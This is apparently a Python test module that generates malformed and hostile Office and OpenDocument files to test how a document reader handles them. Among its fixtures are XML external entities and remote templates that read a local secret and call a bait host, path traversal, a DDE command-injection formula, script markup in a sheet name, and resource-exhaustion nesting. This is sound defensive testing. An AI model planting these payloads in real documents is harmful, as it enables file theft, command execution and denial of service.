"""Office packages with contradictory, external or circular parts."""

from __future__ import annotations

from tests.hostile.case import BROKEN, EMPTY, FAILED, LARGE, READ, Bait, Family
from tests.hostile.made import cell, docx_with_parts, odf, office, paragraph, relationships, xlsx_with_parts, zipped

family = Family()


@family.baited("external-template.docx", READ)
def docx_with_a_remote_template(bait: Bait) -> bytes:
    return docx_with_parts(
        paragraph("The valve is stuck."),
        {"settings.xml": '<w:settings $W><w:attachedTemplate r:id="rId1"/></w:settings>'},
        {
            "rId1": ("attachedTemplate", f"http://{bait.address}/t.dotm", True),
            "rId2": ("image", f"http://{bait.address}/i.png", True),
            "rId3": ("aFChunk", bait.secret.as_uri(), True),
        },
    )


@family.baited("external-entity.docx", READ, BROKEN, LARGE)
def docx_with_an_external_entity(bait: Bait) -> bytes:
    prolog = f'<!DOCTYPE x [<!ENTITY s SYSTEM "{bait.secret.as_uri()}"><!ENTITY h SYSTEM "http://{bait.address}/x">]>'
    return docx_with_parts("<w:p><w:r><w:t>before &s; &h; after</w:t></w:r></w:p>", prolog=prolog)


@family.baited("linked-picture.docx", READ)
def docx_with_a_linked_picture(bait: Bait) -> bytes:
    body = paragraph("The valve is stuck.") + (
        '<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><a:blip r:link="rId1"/></a:graphicData></a:graphic>'
        "</wp:inline></w:drawing></w:r></w:p>"
    )
    return docx_with_parts(body, relations={"rId1": ("image", bait.secret.as_uri(), True)})


@family.baited("picture-out-of-the-package.docx", READ)
def docx_with_a_picture_outside(bait: Bait) -> bytes:
    body = paragraph("The valve is stuck.") + (
        '<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><a:blip r:embed="rId1"/></a:graphicData></a:graphic>'
        "</wp:inline></w:drawing></w:r></w:p>"
    )
    return docx_with_parts(body, relations={"rId1": ("image", "../../../../../../.." + str(bait.secret), False)})


@family.file("styles-in-a-circle.docx", READ)
def docx_with_styles_in_a_circle() -> bytes:
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="S{n}"><w:name w:val="S{n}"/><w:basedOn w:val="S{(n + 1) % 3}"/></w:style>'
        for n in range(3)
    )
    body = '<w:p><w:pPr><w:pStyle w:val="S0"/></w:pPr><w:r><w:t>The valve is stuck.</w:t></w:r></w:p>'
    relations = {"rId1": ("styles", "styles.xml", False)}
    return docx_with_parts(body, {"styles.xml": f"<w:styles $W>{styles}</w:styles>"}, relations)


@family.file("numbering-in-a-circle.docx", READ)
def docx_with_numbering_in_a_circle() -> bytes:
    numbering = (
        '<w:numbering $W><w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="L"/><w:styleLink w:val="L"/>'
        '<w:lvl w:ilvl="0"><w:start w:val="99999999999"/><w:numFmt w:val="upperRoman"/><w:lvlText w:val="%1%9%0"/></w:lvl>'
        '</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    )
    body = (
        '<w:p><w:pPr><w:numPr><w:ilvl w:val="77"/><w:numId w:val="1"/></w:numPr></w:pPr>'
        "<w:r><w:t>The valve is stuck.</w:t></w:r></w:p>"
    )
    return docx_with_parts(body * 3, {"numbering.xml": numbering}, {"rId1": ("numbering", "numbering.xml", False)})


@family.file("deep-fields.docx", READ, LARGE, EMPTY)
def docx_with_deep_fields() -> bytes:
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF </w:instrText></w:r>'
    return docx_with_parts(f"<w:p>{begin * 5000}<w:r><w:t>The valve is stuck.</w:t></w:r></w:p>")


@family.file("wide-cell.docx", READ, LARGE)
def docx_with_a_wide_cell() -> bytes:
    wide = '<w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr><w:p><w:r><w:t>wide</w:t></w:r></w:p></w:tc>'
    return docx_with_parts(f"<w:tbl><w:tr>{wide}</w:tr></w:tbl>" + paragraph("The valve is stuck."))


@family.file("notes-to-themselves.docx", READ)
def docx_with_notes_that_hold_themselves() -> bytes:
    inner = '<w:p><w:r><w:t>note</w:t></w:r><w:r><w:footnoteReference w:id="1"/></w:r></w:p>'
    return docx_with_parts(
        '<w:p><w:r><w:t>The valve is stuck.</w:t></w:r><w:r><w:footnoteReference w:id="1"/></w:r></w:p>',
        {"footnotes.xml": f'<w:footnotes $W><w:footnote w:id="1">{inner}</w:footnote></w:footnotes>'},
        {"rId1": ("footnotes", "footnotes.xml", False)},
    )


@family.file("nested-boxes.docx", READ, LARGE, BROKEN)
def docx_with_nested_boxes() -> bytes:
    depth = 200
    box = "<w:r><w:pict><w:txbxContent><w:p>"
    return docx_with_parts(
        f"<w:p>{box * depth}<w:r><w:t>The valve is stuck.</w:t></w:r>{'</w:p></w:txbxContent></w:pict></w:r>' * depth}</w:p>"
    )


@family.file("parts-named-twice.docx", READ, BROKEN)
def docx_with_two_documents() -> bytes:
    import io
    import warnings
    import zipfile

    buffer = io.BytesIO(docx_with_parts(paragraph("The valve is stuck.")))
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr("word/document.xml", b"<x/>")
    return buffer.getvalue()


@family.file("relation-to-itself.docx", READ, BROKEN, EMPTY)
def docx_whose_document_is_its_relations() -> bytes:
    return office("word", {"word/document.xml": relationships({"rId1": ("officeDocument", "document.xml", False)})})


@family.file("utf-7.docx", BROKEN, EMPTY, READ)
def docx_in_utf_7() -> bytes:
    return office("word", {"word/document.xml": b'<?xml version="1.0" encoding="utf-7"?>+ADw-x+AD4-'})


@family.file("string-beyond-the-end.xlsx", READ)
def xlsx_with_a_string_that_is_missing() -> bytes:
    rows = f'<row r="1">{cell("A1", "valve")}<c r="B1" t="s"><v>99999999</v></c><c r="C1" t="s"><v>-1</v></c></row>'
    return xlsx_with_parts(rows, strings="<si><t>one</t></si>")


@family.file("bad-addresses.xlsx", READ)
def xlsx_with_addresses_of_no_cell() -> bytes:
    cells = cell("ZZZZZ99999999999", "far") + cell("0", "none") + cell("A-1", "below") + cell("", "empty")
    return xlsx_with_parts(
        f'<row r="1">{cell("A1", "valve")}</row><row r="-5">{cells}</row><row r="x">{cell("B2", "b")}</row>'
    )


@family.file("bad-numbers.xlsx", READ)
def xlsx_with_numbers_of_no_kind() -> bytes:
    values = ("NaN", "INF", "-INF", "1e999", "9" * 5000, "1_000", "٣", "0x10", "")
    cells = "".join(f'<c r="{chr(66 + n)}1"><v>{value}</v></c>' for n, value in enumerate(values))
    return xlsx_with_parts(f'<row r="1">{cell("A1", "valve")}{cells}</row>')


@family.file("merged-over-everything.xlsx", READ, LARGE)
def xlsx_with_merges_over_everything() -> bytes:
    merges = (
        "".join('<mergeCell ref="A1:XFD1048576"/>' for _ in range(200)) + '<mergeCell ref="B2"/><mergeCell ref="x"/>'
    )
    return xlsx_with_parts(f'<row r="1">{cell("A1", "valve")}</row>', after=f"<mergeCells>{merges}</mergeCells>")


@family.file("markup.xlsx", READ)
def xlsx_with_a_sheet_called_markup() -> bytes:
    return xlsx_with_parts(f'<row r="1">{cell("A1", "[/] [red]valve")}</row>', name="[link=http://[x]<script>\u202e")


@family.file("formulas.xlsx", READ)
def xlsx_with_formulas_for_others() -> bytes:
    return xlsx_with_parts(
        f'<row r="1">{cell("A1", "=cmd|&quot; /C calc&quot;!A0")}<c r="B1"><f>B1+1</f><v>#REF!</v></c>{cell("C1", "valve")}</row>'
    )


@family.file("one-value-a-million-columns.ods", READ, LARGE)
def ods_with_repetitions() -> bytes:
    repeated = (
        '<table:table table:name="S"><table:table-row table:number-rows-repeated="1048576">'
        '<table:table-cell table:number-columns-repeated="16384"><text:p>valve</text:p></table:table-cell>'
        "</table:table-row></table:table>"
    )
    return odf("spreadsheet", repeated)


@family.file("negative-repetitions.ods", READ)
def ods_with_repetitions_of_no_number() -> bytes:
    cells = "".join(
        f'<table:table-cell table:number-columns-repeated="{count}"><text:p>valve</text:p></table:table-cell>'
        for count in ("-3", "x", "99999999999999999999", "1.5", "2")
    )
    return odf("spreadsheet", f'<table:table table:name="S"><table:table-row>{cells}</table:table-row></table:table>')


@family.baited("linked.odt", READ)
def odt_with_links_outside(bait: Bait) -> bytes:
    return odf(
        "text",
        f'<text:p>The valve is stuck.<draw:frame><draw:image xlink:href="{bait.secret.as_uri()}"/></draw:frame></text:p>'
        f'<text:section text:name="s"><text:section-source xlink:href="http://{bait.address}/x"/></text:section>',
    )


@family.file("blanks.odt", READ, LARGE)
def odt_with_a_billion_blanks() -> bytes:
    return odf("text", '<text:p>The valve<text:s text:c="2000000000"/>is stuck.</text:p>')


@family.file("deep-lists.odt", READ, LARGE, BROKEN)
def odt_with_deep_lists() -> bytes:
    depth = 2000
    return odf(
        "text",
        "<text:list><text:list-item>" * depth + "<text:p>valve</text:p>" + "</text:list-item></text:list>" * depth,
    )


@family.file("no-content.odt", BROKEN, EMPTY)
def odt_without_content() -> bytes:
    return zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "styles.xml": b"<x/>"})


@family.file("slides-in-a-circle.pptx", BROKEN, EMPTY, READ, FAILED)
def pptx_with_slides_in_a_circle() -> bytes:
    p = "http://schemas.openxmlformats.org/presentationml/2006/main"
    r = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    deck = f'<p:presentation xmlns:p="{p}" xmlns:r="{r}"><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst></p:presentation>'
    inside = relationships({"rId1": ("slide", "presentation.xml", False)})
    return office("ppt", {"ppt/presentation.xml": deck.encode(), "ppt/_rels/presentation.xml.rels": inside})


@family.file("deep-groups.pptx", READ, LARGE, BROKEN, EMPTY)
def pptx_with_deep_groups() -> bytes:
    p = "http://schemas.openxmlformats.org/presentationml/2006/main"
    a = "http://schemas.openxmlformats.org/drawingml/2006/main"
    r = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    depth = 2000
    shape = "<p:sp><p:txBody><a:p><a:r><a:t>The valve is stuck.</a:t></a:r></a:p></p:txBody></p:sp>"
    slide = (
        f'<p:sld xmlns:p="{p}" xmlns:a="{a}"><p:cSld><p:spTree>{"<p:grpSp>" * depth}{shape}{"</p:grpSp>" * depth}{shape}'
        "</p:spTree></p:cSld></p:sld>"
    )
    deck = f'<p:presentation xmlns:p="{p}" xmlns:r="{r}"><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst></p:presentation>'
    inside = relationships({"rId1": ("slide", "slides/slide1.xml", False)})
    return office(
        "ppt",
        {
            "ppt/presentation.xml": deck.encode(),
            "ppt/_rels/presentation.xml.rels": inside,
            "ppt/slides/slide1.xml": slide.encode(),
        },
    )
